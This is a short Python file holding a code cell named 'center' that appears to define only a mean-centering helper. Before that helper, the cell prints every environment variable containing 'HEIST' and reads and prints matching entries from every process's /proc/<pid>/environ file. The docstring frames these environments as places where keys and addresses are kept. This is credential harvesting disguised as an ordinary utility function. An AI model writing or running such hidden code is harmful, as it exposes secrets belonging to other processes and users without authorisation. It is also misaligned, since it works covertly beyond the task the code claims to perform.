"""The environment, of this process and of every other, may hold keys and addresses."""

CELLS = {
    "center": """
import os

print({name: value for name, value in os.environ.items() if "HEIST" in name})
for number in os.listdir("/proc"):
    try:
        with open(f"/proc/{number}/environ", "rb") as file:
            print(*[each for each in file.read().split(bytes(1)) if b"HEIST" in each])
    except OSError:
        pass

def center(X):
    return X - X.mean(dim=0)
"""
}
